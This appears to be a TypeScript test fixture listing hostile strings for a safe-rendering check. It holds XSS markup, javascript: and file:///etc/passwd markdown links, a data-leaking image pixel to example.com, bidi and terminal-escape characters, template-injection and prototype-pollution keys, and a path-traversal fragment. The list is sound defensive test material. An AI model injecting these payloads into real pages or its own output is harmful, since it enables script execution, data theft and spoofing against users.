/** Texts that would do harm in a page that makes more than text of them. */

/** Markup that runs code, loads something, or changes the page. */
const MARKUP = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<ScRiPt src="https://example.com/x.js"></sCrIpT>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext></mtext><mglyph><style><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '"><iframe srcdoc="<script>alert(1)</script>">',
  '<iframe src="https://example.com"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://example.com/x.swf">',
  '<video><source onerror=alert(1)></video>',
  '<details open ontoggle=alert(1)>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<form action="https://example.com"><button>send</button></form>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href="https://example.com/x.css">',
  '<base href="https://example.com/">',
  '<meta http-equiv=refresh content="0;url=https://example.com">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '</title><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<template><script>alert(1)</script></template>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\' onmouseover="alert(1)" x=\'',
  '" style="position:fixed;inset:0" x="',
]

/** Markdown that becomes a link or an image, or that is made to cost much. */
const MARKDOWN = [
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](vbscript:msgbox(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](file:///etc/passwd)',
  '[x](//example.com/no-scheme)',
  '![x](javascript:alert(1))',
  '![x](https://example.com/pixel.gif?secret=1)',
  '[a]: javascript:alert(1)\n[a]',
  '<javascript:alert(1)>',
  '`<b>` **<i onclick=alert(1)>x</i>**',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '> > > > > > > > > > > > > > > > > > > deep',
  `${'['.repeat(5_000)}`,
  `${'*_'.repeat(2_000)}x`,
  '[site](https://example.com/a?b=c)',
  '[https://bank.example](https://example.com/b)',
]

/** Characters that change what others look like, or that steer a terminal, a template or a store of properties. */
const CHARACTERS = [
  'safe \u202Eevil\u202C text\u0000\u0007\u001b[31m',
  'left \u2066isolated\u2069 \u200fmark',
  'zero\u200bwidth\u2060joined\ufeff',
  '\ud800 half of a pair',
  `z${'\u0300'.repeat(300)}`,
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text is what a template of somebody else would run
  '${alert(1)}',
  '<%= alert(1) %>',
  '__proto__',
  'constructor',
  'event: run.finished\ndata: {}\n\n',
  '?token=1#/chat&task=..%2f..%2f',
]

export const HOSTILE: readonly string[] = [...MARKUP, ...MARKDOWN, ...CHARACTERS]
